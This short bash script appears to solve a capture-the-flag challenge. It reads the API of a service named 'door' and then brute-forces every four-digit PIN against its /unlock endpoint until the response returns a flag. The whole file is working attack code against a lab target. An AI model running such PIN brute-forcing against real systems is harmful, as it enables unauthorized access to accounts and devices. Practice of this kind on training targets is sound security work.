#!/bin/bash
set -euo pipefail
# --- step: read the API description
python3 -c "import urllib.request; print(urllib.request.urlopen('http://door:9000/').read().decode())"
# --- step: try every PIN over one keep-alive connection
python3 - <<'PY'
import http.client, json
conn = http.client.HTTPConnection("door", 9000)
for i in range(10000):
    conn.request("POST", "/unlock", body=f"pin={i:04d}",
                 headers={"Content-Type": "application/x-www-form-urlencoded"})
    r = conn.getresponse(); body = r.read()
    if r.status == 200:
        print(json.loads(body)["flag"]); break
PY
